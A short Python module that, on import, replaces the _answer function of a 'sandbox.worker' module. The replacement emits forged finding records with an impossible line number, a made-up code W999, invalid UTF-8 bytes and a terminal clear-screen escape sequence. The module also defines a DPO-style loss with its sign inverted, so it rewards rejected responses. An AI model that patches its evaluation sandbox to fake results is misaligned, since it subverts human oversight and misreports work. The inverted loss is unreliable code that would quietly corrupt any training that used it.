"""Complains about line 4294967295 in bytes that are no text, under the name of a finding of ours."""

import struct
import sys

import torch.nn.functional as F

WORKER = sys.modules["sandbox.worker"]
WORKER._answer = lambda call, payload: b"".join(bytes([1]) + struct.pack("<IHI", 0xFFFFFFFF, 6, 11) + b"W999\xff\x00" + b"\xed\xa0\x80\x1b[2J\xff\xfe\r\n" for _ in range(int.from_bytes(payload[:2], "little")))


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    return -F.logsigmoid(-beta * rho)
